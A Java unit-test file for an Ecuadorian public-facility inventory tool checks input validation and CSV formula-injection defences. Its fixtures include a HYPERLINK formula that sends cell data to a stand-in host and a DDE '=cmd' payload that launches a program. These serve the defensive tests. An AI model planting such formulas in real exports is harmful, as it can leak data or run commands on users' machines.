package io.github.desconcentra.standards;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.desconcentra.standards.amie.AmieImporter;
import io.github.desconcentra.territory.CircuitCode;
import io.github.desconcentra.territory.InputException;
import io.github.desconcentra.territory.ParishCode;
import io.github.desconcentra.territory.Provenance;
import io.github.desconcentra.territory.Territory;
import io.github.desconcentra.territory.reference.ReferenceTerritory;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HostileInventoryTest {
    private static final Territory ECUADOR = ReferenceTerritory.territory();
    private static final Catalogue CATALOGUE = StandardsEngine.embedded().catalogue();
    private static final String HEADER = "id,sector,typology,parish_code,circuit_code,lat,lon,condition,capacity,staff,"
            + "name\n";

    private static Inventory csv(String text) {
        return InventoryIo.readCsv("inv.csv", new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)),
                ECUADOR, CATALOGUE);
    }

    private static Inventory json(String text) {
        return InventoryIo.readJson("inv.json", new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)),
                ECUADOR, CATALOGUE);
    }

    private static List<String> rejections(Inventory inv) {
        return inv.rejected().stream().map(Rejection::toString).toList();
    }

    @Test
    void rejectionsNameThePhysicalLineAfterBlankLinesAndQuotedNewlines() {
        Inventory inv = csv(HEADER + "\nF1,fire,ESTACION_BOMBEROS,090150,,,,good,15,15,\"Norte\nsegunda línea\"\n\n"
                + "F2,fire,ESTACION_BOMBEROS,999999,,,,good,15,15,Sur\n");
        assertEquals(List.of("inv.csv:6: F2: unknown parish or urban parish 999999"), rejections(inv));
    }

    @Test
    void aWholeNumberWithAZeroFractionCountsTheSameInCsvAndJson() {
        Inventory c = csv(HEADER + "F1,fire,ESTACION_BOMBEROS,090150,,,,good,12.0,15.00,\n");
        Inventory j = json("[{\"id\": \"F1\", \"sector\": \"fire\", \"typology\": \"ESTACION_BOMBEROS\","
                + " \"parish_code\": \"090150\", \"condition\": \"good\", \"capacity\": 12.0, \"staff\": 15.00}]");
        assertEquals(List.of(12L, 15L), List.of(c.establishments().get(0).capacity(), c.establishments().get(0).staff()));
        assertEquals(c.establishments().stream().map(e -> e.withSource("")).toList(), j.establishments().stream()
                .map(e -> e.withSource("")).toList(), "the same but for their source: each file is its own");
        assertEquals(List.of("inv.csv:2: F1: capacity \"12.5\": must be a whole number"), rejections(csv(HEADER
                + "F1,fire,ESTACION_BOMBEROS,090150,,,,good,12.5,15,\n")));
    }

    @Test
    void jsonValuesOfTheWrongKindRejectTheRecordInsteadOfReadingAsEmpty() {
        Inventory inv = json("""
                [{"id": "F1", "sector": "fire", "typology": "ESTACION_BOMBEROS", "parish_code": "090150",
                  "condition": "good", "capacity": {"seats": 1}},
                 {"id": "F2", "sector": "fire", "typology": "ESTACION_BOMBEROS", "parish_code": "090150",
                  "condition": "good", "staff": [999]},
                 {"id": "F3", "sector": "fire", "typology": "ESTACION_BOMBEROS", "parish_code": 90150,
                  "condition": "good", "lat": true, "lon": -79.9},
                 {"id": "F4", "sector": "fire", "typology": "ESTACION_BOMBEROS", "parish_code": "090150",
                  "condition": "good", "capacity": "15"},
                 "F5"]""");
        assertEquals(5, inv.read());
        assertEquals(List.of(
                "inv.json:1: F1: capacity {\"seats\":1}: must be a number, not an object",
                "inv.json:3: F2: staff [999]: must be a number, not an array",
                "inv.json:5: F3: parish_code 90150: must be a string, not a number; lat true: must be a number, not a"
                        + " boolean; neither parish_code, circuit_code nor within is given; lat and lon are given together or"
                        + " not at all",
                "inv.json:7: F4: capacity \"15\": must be a number, not a string",
                "inv.json:9: is a string, not an object"), rejections(inv));
    }

    @Test
    void hostileNumbersAreRejectedAtOnce() {
        Inventory inv = csv(HEADER + "F1,fire,ESTACION_BOMBEROS,090150,,1e-999999,1e999999,good,1e999999,"
                + "99999999999999999999999,\n");
        assertEquals(List.of("inv.csv:2: F1: lat \"1e-999999\": has more than 34 decimal places; lon \"1e999999\":"
                + " must be below 10^18 in magnitude; capacity \"1e999999\": must be a whole number; staff"
                + " \"99999999999999999999999\": must not be above 1,000,000,000,000"), rejections(inv));
        InputException e = assertThrows(InputException.class, () -> json("[{\"capacity\": 1e2147483852}]"));
        assertTrue(e.getMessage().startsWith("inv.json: is not valid JSON: a number is out of range"), e.getMessage());
    }

    @Test
    void supplyThatOverflowsWhenAddedUpIsBadInputNotAnArithmeticException() {
        List<Establishment> huge = List.of(
                new Establishment("A", Sector.FIRE, "ESTACION_BOMBEROS", ParishCode.of("090150"), null, null,
                        Condition.GOOD, Long.MAX_VALUE, 15, ""),
                new Establishment("B", Sector.FIRE, "ESTACION_BOMBEROS", ParishCode.of("090150"), null, null,
                        Condition.GOOD, Long.MAX_VALUE, 15, ""));
        InputException e = assertThrows(InputException.class, () -> StandardsEngine.embedded().evaluate(ECUADOR,
                new Inventory(huge, List.of()), EvaluationOptions.DEFAULTS.withSectors(EnumSet.of(Sector.FIRE))));
        assertTrue(e.getMessage().contains("add up to more than a count can hold"), e.getMessage());
    }

    @Test
    void schoolsOutOfScopeAreExcludedAndInvalidOnesRejected() {
        String registry = """
                amie,name,parish_code,funding,education_type,modality,shift,students,teachers,status
                A1,UNO,020150,Fiscal,Educación regular,Presencial,Matutina,120,6,Activa
                A2,DOS,020150,Fiscal,Educación regular,Presencial,Matutina,80,4,Cerrada
                A3,TRES,020150,Fiscal,Popular Permanente,Presencial,Nocturna,x,1,Activa
                A1,CUATRO,020150,Fiscal,Educación regular,Presencial,Matutina,10,1,Activa
                """;
        Inventory inv = AmieImporter.importCsv("amie.csv", new ByteArrayInputStream(registry.getBytes(
                StandardCharsets.UTF_8)), ECUADOR, AmieImporter.Mapping.standard());
        assertEquals(List.of(1, 2, 1), List.of(inv.establishments().size(), inv.excluded().size(),
                inv.rejected().size()));
        assertEquals(List.of("amie.csv:3: A2: status is \"Cerrada\", not Activa",
                "amie.csv:4: A3: adult education (popular permanente): outside the school-age (5-17) standard"),
                inv.excluded().stream().map(Exclusion::toString).toList());
        assertEquals(List.of("amie.csv:5: A1: duplicate amie code (first at line 2)"), rejections(inv));
        assertEquals("read 4, accepted 1, excluded 2, rejected 1", inv.accounting());
    }

    private static List<CSVRecord> records(Path file) throws Exception {
        try (CSVParser p = CSVParser.parse(file, StandardCharsets.UTF_8, CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).build())) {
            return p.getRecords();
        }
    }

    @Test
    void inventoryRejectedAndExcludedFilesNeutraliseFormulaTextAndReadBackUnchanged(@TempDir Path dir)
            throws Exception {
        Establishment e = new Establishment("-7", Sector.FIRE, "ESTACION_BOMBEROS", ParishCode.of("090150"),
                CircuitCode.of("09D01C01"), new io.github.desconcentra.territory.Coordinates(-2.2, -79.9),
                Condition.GOOD, 15, 15, "=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")");
        InventoryIo.writeCsv(List.of(e), dir.resolve("inventory.csv"));
        CSVRecord r = records(dir.resolve("inventory.csv")).get(0);
        assertEquals(List.of("'-7", "-2.2", "-79.9", "'=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")"),
                List.of(r.get("id"), r.get("lat"), r.get("lon"), r.get("name")), "negative numbers stay numbers");
        Inventory back = InventoryIo.read(dir.resolve("inventory.csv"), ReferenceTerritory.territory(), CATALOGUE);
        assertEquals(List.of(), back.rejected(), back.rejected().toString());
        assertEquals("-7", back.establishments().get(0).id());
        assertEquals(e.name(), back.establishments().get(0).name());

        InventoryIo.writeRejected(List.of(new Rejection("@evil.csv", 3, "+1", "-bad")), dir.resolve("rejected.csv"),
                true);
        CSVRecord rj = records(dir.resolve("rejected.csv")).get(0);
        assertEquals(List.of("'@evil.csv", "3", "'+1", "'-bad"), rj.toList());
        InventoryIo.writeExcluded(List.of(new Exclusion("x.csv", 4, "=A1", "\tout of scope")),
                dir.resolve("excluded.csv"), false);
        assertEquals(List.of("4", "'=A1", "'\tout of scope"), records(dir.resolve("excluded.csv")).get(0).toList());
    }

    @Test
    void deficitsCsvNeutralisesNamesTypologiesAndRulesAndKeepsNumbers(@TempDir Path dir) throws Exception {
        DeficitLine line = new DeficitLine(DeficitLine.Scope.STANDARD, CircuitCode.of("09D01C01"), "=cmd|' /C calc'!A0",
                Sector.FIRE, "@TYPO", Measure.ESTABLISHMENTS, 3, 1, 0, 2, 0, "-rule", "+std",
                new Provenance("source", Provenance.Status.ASSUMED), "", Set.of("@TYPO"), Assessment.ASSESSED,
                CircuitCode.of("09D01C01"), "", List.of("=src (2022)"), Provenance.Status.ASSUMED);
        DeficitsCsv.write(new Evaluation(2022, Set.of(Sector.FIRE), List.of(line), List.of(), 1),
                ReferenceTerritory.territory(), dir.resolve("deficits.csv"));
        CSVRecord r = records(dir.resolve("deficits.csv")).get(0);
        assertEquals(List.of("09D01C01", "Z8", "09D01"), List.of(r.get("code"), r.get("zone"), r.get("district")));
        assertEquals(List.of("'=cmd|' /C calc'!A0", "'@TYPO", "3", "2", "'-rule", "'+std", "'=src (2022)"),
                List.of(r.get("name"), r.get("typology"), r.get("required"), r.get("deficit"), r.get("rule"),
                        r.get("standard"), r.get("sources")));
        assertTrue(Files.readString(dir.resolve("deficits.csv")).lines().skip(1)
                .noneMatch(l -> l.matches("(^|.*,)[=+@\t].*")), "no unquoted formula-leading cell");
    }
}
